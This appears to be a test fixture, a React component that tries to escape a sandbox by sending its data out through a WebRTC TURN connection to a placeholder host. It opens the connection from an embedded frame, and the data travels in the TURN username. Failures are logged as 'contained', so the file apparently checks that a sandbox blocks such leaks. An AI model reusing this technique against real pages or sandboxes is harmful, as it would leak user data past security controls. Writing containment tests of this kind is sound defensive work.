import { useEffect } from "react";

// Escape attempt: webrtc_embed_frame — an <embed> of an HTML document
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_embed_frame-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const holder = document.createElement("embed");
      holder.type = "text/html";
      holder.src = "about:blank";
      document.body.appendChild(holder);
      setTimeout(() => {
        try {
          const Peer = holder.getSVGDocument ? holder.getSVGDocument().defaultView.RTCPeerConnection : undefined;
          const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
        } catch (error) {
          console.info("contained", error && error.message);
        }
      }, 300);
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_embed_frame</p>;
}
